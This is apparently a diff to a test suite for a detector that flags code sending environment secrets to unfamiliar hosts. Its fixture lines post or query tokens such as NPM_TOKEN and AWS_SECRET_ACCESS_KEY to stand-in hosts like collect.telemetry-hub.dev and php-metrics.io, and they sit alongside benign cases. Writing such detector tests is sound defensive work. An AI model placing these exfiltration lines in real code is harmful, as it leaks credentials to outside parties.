@@ -2345,6 +2345,13 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     expect(sent('scripts/report.js', ["const req = https.request({ hostname: 'api.buildstats-cdn.com', path: '/v1/c', method: 'POST' });", 'req.end(JSON.stringify({ k: process.env.NPM_TOKEN }));'])?.severity).toBe('high');
     expect(sent('pkg/stats.py', ['requests.post("https://collect.telemetry-hub.dev/ingest", json={"k": os.environ.get("ACME_DEPLOY_KEY")})'])?.severity).toBe('high');
     expect(sent('src/ping.ts', ["await fetch('https://collect.telemetry-hub.dev/f', { method: 'POST', body: new URLSearchParams({ k: process.env.NPM_TOKEN ?? '' }) });"])?.severity).toBe('high');
+    // A GET carries what its URL does: the secret in a query string.
+    expect(sent('src/Boot.php', ['    @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));'])?.severity).toBe('high');
+    expect(sent('pkg/ping.py', ['requests.get(f"https://collect.telemetry-hub.dev/p?t={os.environ[\'PYPI_API_TOKEN\']}", timeout=2)'])?.severity).toBe('high');
+  });
+  it('is quiet on a GET that takes its own service\'s key in the query string', () => {
+    expect(sent('pkg/weather.py', ['r = requests.get(f"https://api.openweathermap.org/data/2.5/weather?q={city}&appid={os.environ[\'OPENWEATHERMAP_API_KEY\']}")'])).toBeUndefined();
+    expect(sent('src/Maps.php', ['    $r = file_get_contents("https://maps.googleapis.com/maps/api/geocode/json?address=" . urlencode($a) . "&key=" . getenv("GOOGLE_MAPS_API_KEY"));'])).toBeUndefined();
   });
   it('is quiet on a secret sent to its own service (host or path), as a header or a client credential, to a token endpoint, to a URL from configuration, or a generic name', () => {
     expect(sent('app/api/contact/route.ts', ["const r = await fetch('https://www.google.com/recaptcha/api/siteverify', {", "  method: 'POST',", '  body: `secret=${process.env.RECAPTCHA_SECRET_KEY}&response=${token}`,', '});'])).toBeUndefined();
